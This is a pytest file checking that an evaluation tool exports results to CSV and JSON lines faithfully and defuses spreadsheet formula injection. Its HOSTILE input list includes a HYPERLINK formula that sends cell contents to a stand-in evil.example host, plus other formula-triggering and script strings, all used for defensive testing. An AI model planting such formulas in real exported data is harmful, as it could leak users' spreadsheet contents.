"""Rows as csv and JSON lines: nothing is lost, nothing runs in a spreadsheet."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.hand_made_runs import make_rows, make_run, make_scores
from valor_gpu.errors import InputTypeError
from valor_gpu.evaluation.results.exports import export_csv, export_jsonl
from valor_gpu.store import Store, StoredRow, StoredScore


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store(tmp_path / "store.sqlite") as opened:
        yield opened


def table(path: Path) -> list[dict[str, str]]:
    before = csv.field_size_limit(10_000_000)  # of the whole process, so other tests would have it too
    try:
        with path.open(encoding="utf-8-sig", newline="") as file:
            return list(csv.DictReader(file))
    finally:
        csv.field_size_limit(before)


HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "\u3000\uff1d1",
    "a,b\n\"c\"\r\n<script>",
    "\x00",
    "'quoted",
    "e\u0301 \u202e \U0001f600",
    "x" * 1_000_000,
    "",
]  # fmt: skip


def test_json_lines_hold_everything(store: Store, tmp_path: Path) -> None:
    rows = [StoredRow(i, f"k{i}", {"question": text, "n": [1, None]}) for i, text in enumerate(HOSTILE, 1)]
    rows.append(StoredRow(20, "late", {"other": "lone \ud800"}, {"answer": -1.5, "_seconds": 2}, "timeout", "=1"))
    details = {"turns": [{"turn": 1, "score": 5}]}
    scores = [
        StoredScore(1, "gpt_fluency", 0, 5.0, reason="r", level="l", details=details, usage={"prompt": 3}, seconds=0.5),
        StoredScore(1, "gpt_fluency", 1, None, "parse_error", "no number"),
    ]
    run = make_run(store, ["gpt_fluency"], rows, scores)
    assert export_jsonl(run, tmp_path / "new" / "rows.jsonl") == 16
    lines = (tmp_path / "new" / "rows.jsonl").read_text("utf-8").split("\n")
    found = [json.loads(line) for line in lines[:-1]]
    names = ("number", "key", "inputs", "outputs", "status", "error")
    assert [StoredRow(*(row[name] for name in names)) for row in found] == rows
    kept = [StoredScore(1, "gpt_fluency", **score) for score in found[0]["scores"]["gpt_fluency"]]
    assert kept == scores and found[1]["scores"] == {}


def test_no_cell_of_a_csv_is_a_formula(store: Store, tmp_path: Path) -> None:
    rows = [StoredRow(i, text[:9] + str(i), {text[:9] + "?": text, "n": -i}) for i, text in enumerate(HOSTILE, 1)]
    scores = [StoredScore(1, "=f", 0, -0.5, reason="=why", level="+l"), StoredScore(2, "=f", 0, None, "-status", "@")]
    run = make_run(store, [], rows, scores)
    export_csv(run, tmp_path / "rows.csv")
    found = table(tmp_path / "rows.csv")
    cells = [cell for row in found for cell in (*row, *row.values())]
    assert [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "@", "\uff1d")] == []
    assert {cell for cell in cells if cell.startswith("-")} == {*(f"-{i}" for i in range(1, 16)), "-0.5"}
    assert found[0]["inputs.=HYPERLIN?"] == "'" + HOSTILE[0] and found[1]["scores.=f.status"] == "'-status"
    assert found[0]["scores.=f"] == "-0.5" and found[0]["scores.=f.reason"] == "'=why"
    assert found[13]["inputs.xxxxxxxxx?"] == HOSTILE[13] and found[11]["inputs.'quoted?"] == "'quoted"
    assert found[10]["inputs.\\x00?"] == "\\x00"


def test_without_the_guard_texts_are_as_they_are(store: Store, tmp_path: Path) -> None:
    rows = [StoredRow(i, f"k{i}", {"question": text}) for i, text in enumerate(HOSTILE, 1) if "\0" not in text]
    export_csv(make_run(store, [], rows, []), tmp_path / "rows.csv", guard=False)
    assert [row["inputs.question"] for row in table(tmp_path / "rows.csv")] == [row.inputs["question"] for row in rows]


def test_columns_of_a_csv(store: Store, tmp_path: Path) -> None:
    rows = [
        *make_rows(2, tags=[["a"], {"b": None}]),
        StoredRow(5, "k5", {"flag": True}, {"answer": None}, "timeout", "e"),
    ]
    scores = [
        *make_scores("zeta", [0.1, "undefined"]),
        *make_scores("f1_score", [1, 0.25]),
        *make_scores("f1_score", [0.5], 1),
    ]
    run = make_run(store, ["f1_score"], rows, scores)
    assert export_csv(run, tmp_path / "rows.csv") == 3
    first, second, third = table(tmp_path / "rows.csv")
    parts = ("", ".status", ".level", ".reason")
    assert list(first) == [
        "number", "key", "status", "error", "inputs.question", "inputs.tags", "inputs.flag", "outputs.answer",
        *(f"scores.f1_score{part}" for part in parts),
        *(f"scores.f1_score@2{part}" for part in parts),
        *(f"scores.zeta{part}" for part in parts),
    ]  # fmt: skip
    assert (first["scores.f1_score"], first["scores.f1_score@2"], first["scores.zeta"]) == ("1.0", "0.5", "0.1")
    assert (second["scores.zeta"], second["scores.zeta.status"], second["scores.zeta.reason"]) == (
        "",
        "undefined",
        "why 2",
    )
    assert (first["inputs.tags"], second["inputs.tags"], third["inputs.flag"]) == ('["a"]', '{"b": null}', "true")
    assert (third["number"], third["status"], third["error"], third["scores.zeta"]) == ("5", "timeout", "e", "")


def test_an_empty_run_and_a_failed_export(store: Store, tmp_path: Path) -> None:
    run = store.create_run("empty", {})
    assert (export_csv(run, tmp_path / "rows.csv"), export_jsonl(run, tmp_path / "rows.jsonl")) == (0, 0)
    assert (tmp_path / "rows.csv").read_bytes() == b"\xef\xbb\xbfnumber,key,status,error\r\n"
    with pytest.raises(IsADirectoryError, match="folder"):
        (tmp_path / "folder").mkdir()
        export_jsonl(run, tmp_path / "folder")
    with pytest.raises(InputTypeError, match="guard must be bool but got str"):
        export_csv(run, tmp_path / "rows.csv", guard="no")  # type: ignore[arg-type]
